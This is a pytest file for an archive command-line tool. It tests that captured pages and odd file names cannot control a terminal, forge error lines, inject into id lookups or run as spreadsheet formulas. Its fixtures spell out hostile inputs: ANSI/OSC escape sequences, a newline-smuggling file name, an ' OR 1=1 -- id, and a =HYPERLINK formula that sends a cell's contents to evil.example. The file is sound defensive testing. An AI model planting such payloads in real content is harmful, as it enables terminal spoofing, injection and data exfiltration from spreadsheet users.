"""What captured pages and odd file names can do to a terminal, a spreadsheet or an id
lookup: nothing. Escapes are shown, not obeyed; ids are literal; formulas stay text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from archive.cli.app import cli
from tests.corpus import page, paragraph, write_corpus

# An OSC sequence that retitles the window, a clear-screen, a hidden hyperlink, a
# right-to-left override that reverses what follows it.
HOSTILE = "Plain \x1b]0;owned\x07 \x1b[2J \x1b]8;;https://evil.example/\x07link\x1b]8;;\x07 \u202eevil"
RAW_SEQUENCES = ("\x1b]0;owned", "\x1b[2J", "\x1b]8;;", "\u202e")


def _invoke(home: Path, *args: str, expect: int = 0):
    result = CliRunner().invoke(cli, ["--home", str(home), *args], catch_exceptions=False, color=True)
    assert result.exit_code == expect, (result.stdout, result.stderr)
    return result


@pytest.fixture
def hostile_home(tmp_path: Path) -> Path:
    import random

    folder = tmp_path / "in"
    write_corpus(folder, 3)
    rng = random.Random(5)
    # enough ordinary text that the page is a page, not binary junk
    body = [f"{HOSTILE} {paragraph(rng, 120)}"] + [paragraph(rng, 120) for _ in range(12)]
    (folder / "hostile.html").write_text(page(50, title=f"Harbour {HOSTILE}", paragraphs=body,
                                              url="https://news.example.org/hostile"), "utf-8")
    home = tmp_path / "home"
    _invoke(home, "ingest", str(folder))
    return home


def _hostile_id(home: Path) -> str:
    found = json.loads(_invoke(home, "search", "harbour", "--json").stdout)
    return found["hits"][0]["id"]


def test_escape_sequences_in_pages_are_shown_not_obeyed(hostile_home: Path) -> None:
    article = _hostile_id(hostile_home)
    other = json.loads(_invoke(hostile_home, "search", "report", "--json").stdout)["hits"][0]["id"]
    outputs = [
        _invoke(hostile_home, "search", "harbour").stdout,
        _invoke(hostile_home, "show", article).stdout,
        _invoke(hostile_home, "show", article, "--versions").stdout,
        _invoke(hostile_home, "similar", other).stdout,
    ]
    for text in outputs[:3]:
        assert "\\x1b]0;owned" in text  # shown, escaped, where the page had it
    for text in outputs:
        for raw in RAW_SEQUENCES:
            assert raw not in text
    # --json is for programs: it keeps the text exactly, as JSON escapes.
    record = json.loads(_invoke(hostile_home, "show", article, "--json").stdout)
    assert HOSTILE in record["title"]


def test_a_file_name_cannot_forge_an_error_line_or_reach_the_terminal(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    bad = folder / "evil\nerror: fake.html: \x1b[2J.html"
    bad.write_bytes(b"")
    result = _invoke(tmp_path / "home", "ingest", str(bad), expect=1)
    lines = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(lines) == 1 and "evil\\nerror: fake.html" in lines[0] and "\x1b" not in result.stderr


@pytest.mark.parametrize("pattern", ["0f%%%%", "______", "%", "abc%def", "' OR 1=1 --"])
def test_ids_are_literal_in_every_command_that_takes_one(tmp_path: Path, pattern: str) -> None:
    home = tmp_path / "home"
    write_corpus(tmp_path / "in", 1)
    _invoke(home, "ingest", str(tmp_path / "in"))
    for command in (["show", pattern], ["show", pattern, "--versions"], ["show", pattern, "--raw"],
                    ["diff", pattern], ["similar", pattern], ["forget", pattern], ["forget", pattern, "--purge"],
                    ["reextract", pattern]):
        result = _invoke(home, *command, expect=1)
        assert "not an article id" in result.stderr, command
    assert json.loads(_invoke(home, "stats", "--json").stdout)["records"] == 1


def test_a_prefix_still_finds_its_article(tmp_path: Path) -> None:
    home = tmp_path / "home"
    write_corpus(tmp_path / "in", 3)
    _invoke(home, "ingest", str(tmp_path / "in"))
    ids = [h["id"] for h in json.loads(_invoke(home, "search", "--json").stdout)["hits"]]
    for article in ids:
        assert json.loads(_invoke(home, "show", article[:6].upper(), "--json").stdout)["id"] == article
    assert "no article" in _invoke(home, "show", "ffffffffffff", expect=1).stderr


def test_csv_cells_that_would_run_as_formulas_stay_text(tmp_path: Path) -> None:
    home = tmp_path / "home"
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.html").write_text(page(1, title='=HYPERLINK("https://evil.example/?"&A1,"click")'), "utf-8")
    _invoke(home, "ingest", str(folder))
    rows = list(csv.DictReader(io.StringIO(_invoke(home, "export", "--format", "csv").stdout)))
    assert rows[0]["title"].startswith("'=HYPERLINK(")
    jsonl = json.loads(_invoke(home, "export").stdout)
    assert jsonl["title"].startswith("=HYPERLINK(")  # JSON Lines keep the value as it is
